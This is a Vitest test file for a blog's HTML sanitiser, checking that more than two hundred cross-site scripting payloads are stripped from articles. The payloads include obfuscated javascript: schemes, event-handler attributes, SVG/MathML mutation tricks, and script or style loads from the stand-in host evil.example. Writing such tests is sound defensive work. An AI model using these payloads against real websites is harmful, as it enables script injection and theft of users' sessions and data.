import { JSDOM } from "jsdom";
import { describe, expect, test } from "vitest";
import { sanitiseArticle } from "~/domain/blog/sanitise.server";

const run = "evil(1)";

const eventAttributes =
  "onclick ondblclick onmousedown onmouseover onmouseenter onpointerdown onpointerrawupdate onkeydown onfocus onfocusin onblur onload onerror onabort onbegin onend onrepeat ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend ontransitionrun onscroll onscrollend onwheel oncopy oncut onpaste ondrag ondrop oninput onchange oninvalid onsubmit onreset onsearch onselect onselectionchange onplay oncanplay onloadstart onloadeddata onended onmessage onhashchange onpopstate onbeforeunload onunload onpagereveal oncontentvisibilityautostatechange onsecuritypolicyviolation onwebkitanimationstart onslotchange".split(
    " ",
  );
const carriers =
  "svg math img image video audio source track body iframe object embed input select button textarea keygen details marquee form frameset isindex style link meta base applet layer bgsound dialog portal".split(
    " ",
  );
const schemes = [
  "javascript:",
  "JAVASCRIPT:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "\u0001javascript:",
  " \u00a0javascript:",
  "\ufeffjavascript:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&#x3A;",
  "&#106;avascript:",
  "&#x6A;&#x61;vascript:",
  "&#0000106avascript:",
  "java&Tab;script:",
  "java&NewLine;script:",
  "java&#0;script:",
  "java\0script:",
  "javascript\u200b:",
  "view-source:javascript:",
  "feed:javascript:",
  "vbscript:",
  "livescript:",
  "data:text/html,<script>evil(1)</script>",
  "data:image/svg+xml,<svg onload=evil(1)>",
  "data:text/html;base64,PHNjcmlwdD5ldmlsKDEpPC9zY3JpcHQ+",
  "blob:https://evil.example/",
  "filesystem:https://evil.example/",
  "mhtml:https://evil.example/",
  "jar:https://evil.example!/",
  "x-javascript:",
  "//evil.example/",
  "\\\\evil.example\\",
  "/\\evil.example/",
  "/\t/evil.example/",
  "/\n/evil.example/",
];
const addresses = ["href", "xlink:href", "src", "action", "formaction", "background", "ping"];

const shapes = [
  `<p ${"x".repeat(50)} onclick=${run}>x`,
  `<p/onclick=${run}/>x`,
  `<p onclick\n=\n"${run}">x`,
  `<p onclick\u0000=${run}>x`,
  `<p \u000conclick=${run}>x`,
  `<p "onclick=${run}">x`,
  `<p a='>' onclick=${run}>x`,
  `<p a=">" onclick=${run}>x`,
  `<p a=\`>\` onclick=${run}>x`,
  `<p <p onclick=${run}>x`,
  `<p><<script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<script\u0020>${run}</script\u0020>`,
  `<script\n>${run}</script\n>`,
  `<script/src=//evil.example>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script type=text/template>${run}</script>`,
  `<script>/*</script><script>*/${run}</script>`,
  `</script><script>${run}</script>`,
  `<script<script>>${run}</script</script>>`,
  `<p><!--<script>--><script>${run}</script>`,
  `<!-- --!><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!---><img src=x onerror=${run}>`,
  `<!--a--!><img src=x onerror=${run}>`,
  `<?php ?><img src=x onerror=${run}>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>&x;`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`,
  `<svg><style><a title="</style><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><foreignObject><p onclick=${run}>x</p></foreignObject></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<math><annotation-xml encoding=text/html><img src=x onerror=${run}></annotation-xml></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}>`,
  `<table><caption><svg><desc><img src=x onerror=${run}></desc></svg></caption></table>`,
  `<table><td><p></table><img src=x onerror=${run}>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<select><script>${run}</script></select>`,
  `<noscript><style></noscript><img src=x onerror=${run}>`,
  `<noembed><img src=x onerror=${run}></noembed>`,
  `<noframes><img src=x onerror=${run}></noframes>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<textarea><img src="</textarea><img src=x onerror=${run}>">`,
  `<title><a href="</title><img src=x onerror=${run}>">`,
  `<style>@import '//evil.example';</style>`,
  `<style><!--</style><img src=x onerror=${run}>-->`,
  `<p style="x:expression(${run})">x</p>`,
  `<p style="behavior:url(#default#time2)" onbegin=${run}>x`,
  `<p id=x name=y class=z is=evil-x slot=s part=p exportparts=e>x</p>`,
  `<img name=cookie><form id=getElementById><input name=attributes>`,
  `<a href=/ name=documentElement id=body>x</a>`,
  `<a href="https://x.example/" target=_top rel=opener download ping=//evil.example>x</a>`,
  `<a href="https://x.example\u0000.evil">x</a>`,
  `<a href='https://x.example/"><img src=x onerror=${run}>'>x</a>`,
  `<a href="mailto:x?subject=</a><img src=x onerror=${run}>">x</a>`,
  `<a href=https://x onclick=${run} href=javascript:${run}>x</a>`,
  `<a HREF=javascript:${run} href=/areas>x</a>`,
  `<a><a href=javascript:${run}>x</a></a>`,
  `<th scope=row onclick=${run}>x</th>`,
  `<th scope='row" onclick="${run}'>x</th>`,
  `<blockquote cite=javascript:${run}>x</blockquote>`,
  `<ol start=1 reversed type="javascript:${run}"><li value=javascript:${run}>x</ol>`,
  `<br clear=javascript:${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u3008script\u3009${run}\u3008/script\u3009`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `<p>${"<b>".repeat(300)}<script>${run}</script>`,
  `${"<p ".repeat(200)}onclick=${run}>x`,
  `<p>${"&#x3c;".repeat(3)}script>${run}`,
];

const payloads = [
  ...eventAttributes.map((name) => `<p ${name}=${run}>x</p>`),
  ...eventAttributes.map((name) => `<a href="/areas" ${name.toUpperCase()}='${run}'>x</a>`),
  ...carriers.map((tag) => `<${tag} src=x href=javascript:${run} onload=${run} onerror=${run}>`),
  ...schemes.map((scheme) => `<a href="${scheme}${run}">x</a>`),
  ...addresses.map((name) => `<a ${name}="javascript:${run}">x</a><p ${name}="//evil.example">x`),
  ...shapes,
];

const parser = new new JSDOM().window.DOMParser();

/** Everything in a browser's reading of the HTML that could run, load or lead astray. */
function dangersIn(html: string): string[] {
  const document = parser.parseFromString(`<!doctype html><body>${html}`, "text/html");
  return [...document.body.querySelectorAll("*")].flatMap((element) => {
    const { tagName } = element;
    const isStrange =
      /SCRIPT|STYLE|IFRAME|OBJECT|EMBED|SVG|MATH|IMG|VIDEO|AUDIO|FORM|INPUT|BUTTON|SELECT|LINK|META|BASE|TEMPLATE/i.test(
        tagName,
      ) || element.namespaceURI !== "http://www.w3.org/1999/xhtml";
    const attributes = [...element.attributes]
      .filter(({ name, value }) => {
        if (name === "href") {
          const { protocol, host, href } = new URL(value, "https://kisiwa.example/blog/x");
          const isOurs = host === "kisiwa.example";
          const isSaid = /^(https?:\/\/|mailto:|tel:)/.test(value);
          return (
            !/^(https?|mailto|tel):$/.test(protocol) ||
            !(isOurs || isSaid) ||
            /evil\.example/.test(isSaid ? "" : href)
          );
        }
        return (
          !(name === "rel" && value === "noopener") &&
          !(name === "scope" && /^(row|col)$/.test(value))
        );
      })
      .map(({ name, value }) => `${tagName} ${name}=${value}`);
    return isStrange ? [tagName, ...attributes] : attributes;
  });
}

test("there are more than two hundred of them, no two the same", () => {
  expect(payloads.length).toBeGreaterThan(200);
  expect(new Set(payloads).size).toBe(payloads.length);
  expect(dangersIn("<img src=x onerror=evil(1)><a href=//evil.example>x</a>")).toHaveLength(4);
});

describe("an article with a payload in it holds nothing that runs", () => {
  test.each(payloads.map((payload) => [payload.slice(0, 70), payload]))("%j", (_, payload) => {
    for (const html of [
      payload,
      `<p>a ${payload} b</p>`,
      `<table><tr><td>${payload}</td></tr></table>`,
      `<ul><li>${payload}`,
      `<a href="/areas">${payload}</a>`,
    ]) {
      const clean = sanitiseArticle(html);
      expect(dangersIn(clean), clean.slice(0, 300)).toEqual([]);
      expect(dangersIn(sanitiseArticle(clean)), "nor when it is saved again").toEqual([]);
    }
  });
});
